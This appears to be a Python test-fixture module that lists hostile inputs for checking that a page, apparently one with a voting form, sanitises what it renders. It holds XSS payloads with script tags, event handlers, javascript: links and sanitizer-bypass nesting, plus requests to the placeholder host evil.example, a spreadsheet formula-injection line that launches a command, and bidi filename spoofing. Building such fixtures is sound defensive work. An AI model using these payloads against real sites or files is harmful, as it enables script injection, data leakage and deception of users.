"""Texts that try to run, to send a request, to leave their place or to break the layout.

Each would set `window.pwned` or ask `evil.example` if it could.
"""

from __future__ import annotations

import random

E = "http://evil.example/x"
JS = "window.pwned=1"
BIDI = "\u202e\u202d\u2066\u2067\u2068"

SCRIPTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT SRC={E}.js></SCRIPT>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"</pre></div></section><script>{JS}</script>",
    f"<!--><script>{JS}</script-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"<noscript><p title='</noscript><script>{JS}</script>'>",
    f"<template><script>{JS}</script></template>",
    f"{{{{ 7*7 }}}}{{% include 'label.html' %}}<script>{JS}</script>",
    f"\x00<scr\x00ipt>{JS}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
]
HANDLERS = [
    f"<img src=x onerror={JS}>",
    f"<img/src=x/onerror={JS}>",
    f"<body onload={JS}>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<details open ontoggle={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>",
    f"<div onmouseover={JS} style=position:fixed;inset:0>cover</div>",
    f"<select onchange={JS}><option>1<option>2</select>",
    f"<a href=# onclick={JS}>x</a>",
    f"<form action={E}><button>vote here</button></form>",
    f"<button form=vote formaction={E} name=outcome value=first>1</button>",
    f'<input type=hidden name=nonce value=mine form=vote><img src=x onerror="{JS}">',
]
LINKS = [
    f"[x](javascript:{JS})",
    f"[x](JaVaScRiPt:{JS})",
    f"[x](java\nscript:{JS})",
    f"[x](&#106;avascript:{JS})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    f"<javascript:{JS}>",
    f"[x]: javascript:{JS}\n\n[x]",
    f"<a href='javascript:{JS}'>x</a>",
    f"<a href='{E}' ping='{E}'>x</a>",
    f'[x]({E} "onmouseover={JS}")',
    f"<base href='{E}'>",
    f"<meta http-equiv=refresh content='0;url={E}'>",
    f"<link rel=stylesheet href={E}.css>",
    f"<link rel=prefetch href={E}>",
]
PICTURES = [
    f"![x]({E}.png)",
    f"![x][1]\n\n[1]: {E}.png",
    f"<img src={E}.png>",
    f"<img srcset='{E}.png 1x'>",
    f"<picture><source srcset={E}.png><img></picture>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"<svg><image href={E}.png /></svg>",
    f"<svg><use href='{E}.svg#a'/></svg>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><foreignObject><iframe src={E}></iframe></foreignObject></svg>",
    f"<iframe src={E}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data={E}></object><embed src={E}>",
    f"<video src={E} autoplay></video>",
    f"<table background={E}.png><td>x</td></table>",
]
STYLES = [
    f"<style>@import '{E}.css';</style>",
    "<style>body{display:none} #vote{visibility:hidden}</style>",
    f"<div style='background:url({E}.png)'>x</div>",
    "<p style=position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99>cover</p>",
    "<font size=99999>big</font>",
    "<h1 id=vote class=skip>takes the place of the form</h1>",
]
LAYOUT = [
    "x" * 1_000_000,
    "wide " * 20_000,
    "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n|" + "b|" * 400,
    "```\n" + "code " * 3000 + "\n```",
    f"{BIDI}elttil a si sihT",
    f"safe{BIDI}.gpj.exe\u2069 and after",
    "Z\u0351\u036b\u0343\u036a\u0302" + "\u0351" * 300,
    ">" * 500 + " deep",
    "- " * 300 + "deep",
    "#" * 6 + " " + "heading" * 2000,
    "\n" * 5000 + "far below",
    "\u200b\u200d\ufeff\u00ad" * 500,
    "\ud800 half of a character \udfff",
    "\x1b[31mred\x1b[0m\x07\x08",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 2000,
    "[" * 15_000,
    "*a_ " * 4000,
]
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example")']

HOSTILE = [*SCRIPTS, *HANDLERS, *LINKS, *PICTURES, *STYLES, *LAYOUT, *FORMULAS]
"""Texts, in an order that mixes the kinds."""
random.Random(0).shuffle(HOSTILE)
